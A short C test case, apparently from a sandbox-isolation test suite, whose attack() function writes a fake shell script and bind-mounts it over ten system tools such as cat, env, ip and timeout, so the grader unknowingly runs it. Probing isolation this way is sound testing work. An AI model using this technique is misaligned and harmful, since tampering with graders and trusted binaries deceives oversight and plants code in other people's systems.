// Mounts its own files over the tools that the grader runs.
// Points: any
#include <fcntl.h>
#include <stdio.h>
#include <sys/mount.h>
#include <unistd.h>
static void attack(void)
{
    const char *tools[]
        = {"hostname", "domainname", "ipcs", "ip",      "cat",
           "readlink", "pstree",     "env",  "nsenter", "timeout"};
    int file = open("/tmp/liar", O_CREAT | O_WRONLY, 0755);
    dprintf(file, "#!/bin/sh\ntouch /tmp/run_by_the_grader\necho owned\n");
    close(file);
    for (int i = 0; i < 10; i++) {
        char path[64];
        snprintf(path, sizeof path, "/usr/bin/%s", tools[i]);
        mount("/tmp/liar", path, NULL, MS_BIND, NULL);
    }
}
